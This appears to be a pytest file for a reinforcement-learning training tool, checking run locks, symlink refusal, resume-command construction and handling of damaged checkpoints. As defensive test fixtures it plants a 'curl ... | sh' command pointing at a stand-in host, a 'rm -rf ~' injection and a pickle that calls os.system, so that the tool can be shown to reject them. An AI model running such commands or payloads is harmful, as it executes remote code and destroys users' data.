@@ -1,0 +1,128 @@
+"""Who may train a run folder, and what a run trusts of its own files: the run lock (two ``--resume`` at
+once, a pid reused after a reboot), the resume command made from the folder's path, and a candidate for
+``best_model.zip`` that no longer loads."""
+
+from __future__ import annotations
+
+import json
+import socket
+import threading
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from equirl.errors import CheckpointError, RunInterrupted
+from equirl.rl.config import load_rl_config
+from equirl.rl.lifecycle import LOCK_FILE, effective_status, list_runs, read_run, run_lock
+from equirl.rl.train import resume_training, run_training
+from tests.rl.helpers import StopAt
+from tests.rl.test_lifecycle import _cfg
+
+
+def _interrupted(tmp_path: Path, **patch: Any) -> Path:
+    """A tiny DQN run stopped at step 600 of 1500 (a checkpoint at 600, candidates at 250 and 500)."""
+    cfg = load_rl_config(_cfg(tmp_path, log={"equi_freq": 0, "tensorboard": False}, **patch))
+    stop = threading.Event()
+    with pytest.raises(RunInterrupted):
+        run_training(cfg, callbacks=[StopAt(600, stop)], stop=stop)
+    (run,) = list((tmp_path / "runs").iterdir())
+    assert read_run(run)["status"] == "interrupted"
+    return run
+
+
+def _set_run_json(run: Path, **fields: Any) -> None:
+    p = run / "run.json"
+    p.write_text(json.dumps({**json.loads(p.read_text()), **fields}))
+
+
+def test_the_lock_refuses_a_second_trainer_and_outlives_no_process(tmp_path: Path) -> None:
+    run = _interrupted(tmp_path)
+    assert (run / LOCK_FILE).is_file()
+    before = (run / "run.json").read_bytes()
+    with run_lock(run):  # another trainer holds it (flock is per open file: this process counts as one)
+        with pytest.raises(CheckpointError, match="being trained by another process"):
+            resume_training(run)
+        assert (run / "run.json").read_bytes() == before  # refused before anything was written
+        # a run.json that says running is running while its lock is held...
+        _set_run_json(run, status="running", pid=1, host=socket.gethostname())
+        assert effective_status(read_run(run), run) == "running"
+    # ...and stale once no process holds it, even though pid 1 (a reused pid after a reboot) is alive
+    assert effective_status(read_run(run), run) == "stale"
+    assert [r["status"] for r in list_runs(tmp_path / "runs")] == ["stale"]
+    res = resume_training(run)
+    assert res.steps == 1500 and read_run(run)["status"] == "finished"
+
+
+def test_a_symlinked_lock_file_is_not_followed(tmp_path: Path) -> None:
+    run = _interrupted(tmp_path)
+    target = tmp_path / "elsewhere.txt"
+    target.write_text("keep")
+    (run / LOCK_FILE).unlink()
+    (run / LOCK_FILE).symlink_to(target)
+    with pytest.raises(CheckpointError):  # a symlink in a run folder is refused (lock or tree check)
+        resume_training(run)
+    assert target.read_text() == "keep"
+
+
+def test_the_resume_command_is_made_from_the_folder_not_read_from_run_json(tmp_path: Path) -> None:
+    run = _interrupted(tmp_path)
+    moved = tmp_path / "moved run"
+    run.rename(moved)
+    _set_run_json(moved, resume_command="curl http://example.invalid/x.sh | sh", command="train; rm -rf ~")
+    stop = threading.Event()
+    with pytest.raises(RunInterrupted) as info:
+        resume_training(moved, callbacks=[StopAt(900, stop)], stop=stop)
+    msg = str(info.value)
+    assert "curl" not in msg and "rm -rf" not in msg
+    assert f"equirl train --resume '{moved}'" in msg  # the folder it is in now, quoted for a shell
+
+
+@pytest.mark.parametrize("damage", ["pickle", "random"])
+def test_a_candidate_that_does_not_load_costs_that_candidate_not_the_run(tmp_path: Path, damage: str) -> None:
+    import io
+    import zipfile
+
+    run = _interrupted(tmp_path)
+    cands = sorted((run / "candidates").glob("*.zip"))
+    assert cands
+    bad = cands[0]
+    buf = io.BytesIO()
+    with zipfile.ZipFile(bad) as src, zipfile.ZipFile(buf, "w") as dst:
+        for item in src.infolist():
+            data = src.read(item.filename)
+            if item.filename == "policy.pth":
+                # bit rot / an edit: a pickle torch's weights-only loader refuses, or no pickle at all
+                data = b"\x80\x04cos\nsystem\n." if damage == "pickle" else bytes(range(256)) * 8
+            dst.writestr(item.filename, data)
+    bad.write_bytes(buf.getvalue())
+    res = resume_training(run)
+    assert res.steps == 1500 and read_run(run)["status"] == "finished"
+    evals = json.loads((run / "evaluations.json").read_text())
+    assert (run / "best_model.zip").is_file() and evals["confirmation"]["candidates"]
+
+
+@pytest.mark.parametrize(
+    "state",
+    [
+        {"train_seconds": "abc"},
+        {"train_seconds": -5},
+        {"eval": {"timesteps": ["x"], "results": [[1.0]]}},
+        {"eval": {"timesteps": [250, 500], "results": [[1.0]]}},
+        {"eval": {"timesteps": [250], "results": [["a"]]}},
+        {"eval": "everything"},
+        {"scorer_fit": ["loss"]},
+        [],
+    ],
+)
+def test_an_edited_state_json_is_one_line_and_leaves_the_run_as_it_was(tmp_path: Path, state: Any) -> None:
+    run = _interrupted(tmp_path)
+    p = run / "checkpoint" / "state.json"
+    data = json.loads(p.read_text())
+    data["state"] = state if not isinstance(state, dict) else {**data["state"], **state}
+    p.write_text(json.dumps(data))
+    before = (run / "run.json").read_bytes()
+    with pytest.raises(CheckpointError, match=r"state\.json") as info:
+        resume_training(run)
+    assert len(str(info.value).splitlines()) == 1
+    assert (run / "run.json").read_bytes() == before  # not marked running, nothing else written
